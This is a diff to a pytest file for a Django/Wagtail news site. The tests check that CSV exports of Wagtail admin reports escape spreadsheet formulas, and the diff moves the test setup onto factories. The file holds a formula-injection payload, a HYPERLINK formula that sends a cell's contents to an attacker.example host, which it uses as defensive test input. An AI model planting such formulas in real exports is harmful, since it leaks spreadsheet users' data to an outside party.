@@ -4,11 +4,11 @@ import csv
 import io
 
 import pytest
-from django.contrib.auth import get_user_model
 from wagtail.models import Page
 
 from congtin.core.export_guard import escape_csv_text
-from congtin.news.models import ArticlePage
+from congtin.core.tests.factories import SiteFactory
+from congtin.news.tests.factories import ArticlePageFactory, NewsIndexPageFactory
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
 
@@ -36,14 +36,14 @@ def test_rows_are_escaped_and_numbers_kept():
 @pytest.mark.parametrize(
     "report", ["wagtailadmin_reports:aging_pages", "wagtailadmin_reports:site_history"]
 )
-def test_wagtail_report_csv_has_no_live_formula(demo, client, report):
+def test_wagtail_report_csv_has_no_live_formula(client, admin_user, report):
     from django.urls import reverse
 
-    article = ArticlePage.objects.live().first()
+    section = NewsIndexPageFactory(parent=SiteFactory().root_page, publish=True)
+    article = ArticlePageFactory(parent=section, publish=True)
     article.title = FORMULA
     article.save_revision().publish()
-    admin = get_user_model().objects.get(username="admin")
-    client.force_login(admin)
+    client.force_login(admin_user)
 
     response = client.get(reverse(report), {"export": "csv"})
 
